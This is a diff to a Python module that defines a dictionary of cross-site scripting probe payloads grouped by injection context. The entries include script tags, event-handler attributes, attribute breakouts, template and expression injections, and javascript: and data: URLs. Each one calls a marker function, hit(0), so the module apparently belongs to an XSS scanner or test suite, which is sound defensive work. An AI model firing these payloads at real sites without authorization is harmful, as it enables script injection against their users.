@@ -9,18 +9,19 @@ from __future__ import annotations
 from collections.abc import Iterable
 from typing import Final
 
-#: By class. Those at the beginning work at the beginning of a value only.
+#: By class. Addresses work at the beginning of a value only. In this order nearly every line of :func:`packed` holds
+#: markup.
 PAYLOADS: Final = {
     "address": "javascript:hit(0)",
-    "data-address": "data:text/html,<script>parent.hit(0)</script>",
     "script": "<script>hit(0)</script>",
     "image": "<img src=x onerror=hit(0)>",
-    "svg": "<svg onload=hit(0)>",
     "attribute": '" autofocus onfocus=hit(0) x="',
     "attribute-single": "' onmouseover='hit(0)' x='",
+    "svg": "<svg onload=hit(0)>",
     "template": "{{constructor.constructor('hit(0)')()}}",
     "expression": "${hit(0)} {hit(0)} #{hit(0)} <%=hit(0)%>",
     "style-end": "</style><script>hit(0)</script>",
+    "data-address": "data:text/html,<script>parent.hit(0)</script>",
     "text-end": "</textarea></title><script>hit(0)</script>",
     "frame": '<iframe srcdoc="<script>parent.hit(0)</script>">',
     "mathml": "<math><mi xlink:href=javascript:hit(0)>x</mi></math>",
